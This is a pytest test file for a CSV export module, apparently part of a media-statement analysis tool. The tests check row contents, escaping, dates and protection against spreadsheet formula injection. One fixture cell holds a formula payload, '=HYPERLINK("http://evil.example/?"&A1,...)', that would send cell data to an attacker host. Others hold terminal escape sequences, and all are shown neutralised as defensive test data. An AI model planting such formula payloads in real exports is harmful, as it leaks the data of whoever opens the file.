"""CSV is read back with the standard library and with pandas."""

from __future__ import annotations

import csv
import re
from pathlib import Path
from types import ModuleType

import pandas
import pytest
from hypothesis import given
from hypothesis import strategies as st

from riftline import export
from riftline.errors import UsageError
from riftline.export import csv as csv_export
from riftline.export import files, tables

DOC = Path(__file__).parents[2] / "docs" / "formats-out.md"


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


@pytest.fixture
def out(made: ModuleType, tmp_path: Path) -> Path:
    export.write("csv", made.SNAPSHOT, tmp_path / "new" / "folder")
    return tmp_path / "new" / "folder"


def test_files_are_those_promised(made: ModuleType, tmp_path: Path) -> None:
    written = export.write("csv", made.SNAPSHOT, tmp_path)
    assert sorted(p.name for p in written) == [
        "README.txt", "actors.csv", "courses.csv", "decisions.csv", "documents.csv", "issues.csv",
        "names.csv", "pairs.csv", "statements.csv", "ties.csv",
    ]  # fmt: skip
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(p.name for p in written)


def test_a_statement_row_says_it_all(out: Path) -> None:
    row = read(out / "statements.csv")[0]
    assert row == {
        "id": "s1",
        "document_id": "doc1",
        "url": "https://tidewater.example/a?x=1|2",
        "publisher": "Tidewater News",
        "published": "2031-01-05",
        "said": "2031-01-05",
        "start": "0",
        "end": "57",
        "text": "North Brigade accused Valley Front of breaking the truce.",
        "speaker_id": "act-n",
        "speaker_name": "North Brigade",
        "speaker_text": "North Brigade",
        "speaker_kind": "group",
        "cue": "accused",
        "content": "of breaking the truce",
        "mode": "indirect",
        "carriers": "Tidewater \\| News",
        "subject_id": "act-n",
        "subject_name": "North Brigade",
        "subject_text": "North Brigade",
        "act": "ACCUSE",
        "target_id": "act-v",
        "target_name": '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
        "target_text": "Valley Front",
        "stance": "-0.5",
        "stance_words": "",
        "when_earliest": "",
        "when_latest": "",
        "when_precision": "",
        "when_edtf": "",
        "when_text": "",
        "hedges": "",
        "polarity": "asserted",
        "distance": "claimed",
        "glosses": "",
        "confidence": "0.8",
        "rule": "made",
        "first": "s1",
        "copy": "",
    }


def test_several_values_come_apart_again(out: Path) -> None:
    row = read(out / "statements.csv")[1]
    assert row["hedges"] == "apparently | a\\|b\\\\c"
    values = re.split(r"(?<!\\) \| ", row["hedges"])
    assert [re.sub(r"\\(.)", r"\1", v) for v in values] == ["apparently", "a|b\\c"]


def test_undated_is_empty_and_periods_are_iso(out: Path) -> None:
    rows = {r["id"]: r for r in read(out / "statements.csv")}
    assert rows["s4"]["said"] == ""
    assert (rows["s2"]["when_earliest"], rows["s2"]["when_precision"]) == ("2031-03-02", "day")
    assert (rows["s3"]["when_earliest"], rows["s3"]["when_latest"]) == ("2030-12-01", "")
    assert rows["s3"]["when_edtf"] == "2030-12/.."
    assert (rows["s4"]["first"], rows["s4"]["copy"]) == ("s1", "words")


def test_ties_open_to_statements_documents_and_addresses(out: Path) -> None:
    rows = {r["id"]: r for r in read(out / "ties.csv")}
    assert sorted(rows) == [
        "act-n:act-r:-:state",
        "act-n:act-v:2031-01:own",
        "act-n:act-v:2031-03:own",
        "act-v:act-n:2031-03:own",
    ]
    one = rows["act-n:act-v:2031-01:own"]
    assert (one["hostile"], one["independent"], one["carriers"]) == ("0.4", "1", "2")
    assert (one["statements"], one["document_ids"]) == ("s1", "doc1")
    assert one["urls"] == "https://tidewater.example/a?x=1\\|2"
    state = rows["act-n:act-r:-:state"]
    assert (state["hostile"], state["independent"], state["statements"]) == ("", "", "s3")


def test_pairs_and_courses(out: Path) -> None:
    (pair,) = read(out / "pairs.csv")
    assert (pair["verdict"], pair["onset_earliest"], pair["onset_latest"]) == (
        "rift",
        "2031-01",
        "2031-03",
    )
    assert (pair["p_widening"], pair["drivers"], pair["document_ids"]) == ("0.83", "s2", "doc2")
    course = read(out / "courses.csv")
    assert [r["period"] for r in course] == ["2031-01", "2031-02", "2031-03"]
    assert [r["statements"] for r in course] == ["s1", "", "s2 | s4"]


def test_decisions_and_issues_name_their_document(out: Path) -> None:
    same, wrong = read(out / "decisions.csv")
    assert (same["document_id"], same["who"], same["why"][:2]) == ("", "'@ann", "'=")
    assert (wrong["document_id"], wrong["url"]) == ("doc2", "file:///posts/2")
    undated, gone = read(out / "issues.csv")
    assert (undated["document_id"], undated["start"]) == ("doc1", "")
    assert (gone["document_id"], gone["where"], gone["start"]) == ("", "posts/=gone.txt", "1")


def test_actors_name_their_first_documents(made: ModuleType, tmp_path: Path) -> None:
    from dataclasses import replace

    from riftline.model import Statements

    many = Statements(replace(made.S1, id=f"m{i}", document_id=f"doc-{i:03d}") for i in range(30))
    export.write("csv", replace(made.SNAPSHOT, all_statements=many, _index={}), tmp_path)
    row = next(r for r in read(tmp_path / "actors.csv") if r["id"] == "act-n")
    assert row["documents"] == "30"
    assert len(row["document_ids"].split(" | ")) == tables.MOST_DOCUMENTS == 20


def test_no_cell_starts_a_formula_or_holds_a_control(out: Path) -> None:
    numbers = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?\Z")
    seen = 0
    for path in out.glob("*.csv"):
        for row in read(path):
            for text in row.values():
                seen += 1
                assert numbers.match(text) or not re.match(r"\s*[=+\-@\t\r]", text), text
                assert not re.search("[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e]", text)
    assert seen > 300


def test_hostile_characters_are_replaced_one_for_one(made: ModuleType, out: Path) -> None:
    title = read(out / "documents.csv")[1]["title"]
    assert title == "Reed\ufffd[31mGuard\ufffd\ufffdgpj.exe\ufffd\ufffd\ufffd2J"
    assert len(title) == len(made.ESCAPES)
    assert "\x1b" not in (out / "README.txt").read_text("utf-8")


def test_pandas_reads_numbers_as_numbers(out: Path) -> None:
    frame = pandas.read_csv(out / "statements.csv")
    assert list(frame["stance"].dropna()) == [-0.5, -0.5, -0.5]
    assert frame["confidence"].dtype == "float64"
    assert frame["start"].dtype == "int64"
    assert list(frame["id"]) == ["s1", "s2", "s3", "s4"]
    assert frame["text"][3] == "'-2+3 said\r\nthe North Brigade"


@pytest.mark.parametrize("table", tables.TABLES, ids=lambda t: t.file)
def test_every_column_is_filled_and_documented(made: ModuleType, table: tables.Table) -> None:
    rows = list(table.rows(made.SNAPSHOT))
    assert rows
    assert all(set(r) == set(table.columns) for r in rows)
    assert next(iter(table.columns)) == "id"
    assert len({r["id"] for r in rows}) == len(rows)
    words = DOC.read_text("utf-8")
    section = words.split(f"### {table.file}")[1].split("\n##")[0]
    assert re.findall(r"^\| `(\w+)` \|", section, re.M) == list(table.columns)


def test_readme_names_every_column(out: Path) -> None:
    words = (out / "README.txt").read_text("utf-8")
    for table in tables.TABLES:
        section = words.split(f"\n{table.file}: ")[1].split("\n\n")[0]
        assert [line.split()[0] for line in section.splitlines()[1:]] == list(table.columns)


@pytest.mark.parametrize(
    ("given", "wanted"),
    [
        ("plain", "plain"),
        ("=1+1", "'=1+1"),
        ("+7 900", "'+7 900"),
        ("-", "'-"),
        ("@handle", "'@handle"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        (" =1", "' =1"),
        ("\u00a0=1", "'\u00a0=1"),
        ("＝1", "'＝1"),
        ("'=1", "''=1"),
        ("'Abd", "'Abd"),
        ("a=b", "a=b"),
        (("=a", "b"), "'=a | b"),
        ("x\x00y\ud800", "x\ufffdy\ufffd"),
        (-0.25, -0.25),
        (-3, -3),
        (None, ""),
        ((), ""),
    ],
)
def test_cell(given: tables.Value, wanted: str | float) -> None:
    assert csv_export.cell(given) == wanted


@given(st.text(st.characters(exclude_categories=("Cs",))))
def test_a_cell_gives_back_what_was_captured(text: str) -> None:
    cell = csv_export.cell(text)
    assert isinstance(cell, str)
    back = cell[1:] if re.match(r"'+(?:\s*[=+\-@＝＋－＠]|[\t\r\n])", cell) else cell
    assert len(back) == len(text)
    assert all(b in (a, "\ufffd") for a, b in zip(text, back, strict=True))


def test_what_was_there_stays_whole_when_writing_fails(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_text("old", "utf-8")
    with pytest.raises(ZeroDivisionError), files.whole(path) as f:
        f.write("half")
        raise ZeroDivisionError
    assert path.read_text("utf-8") == "old"
    assert list(tmp_path.iterdir()) == [path]


def test_unknown_format_and_a_file_in_the_way(made: ModuleType, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="claims, csv, "):
        export.write("xls", made.SNAPSHOT, tmp_path)
    (tmp_path / "file").write_text("x")
    with pytest.raises(UsageError, match="is a file"):
        export.write("csv", made.SNAPSHOT, tmp_path / "file")
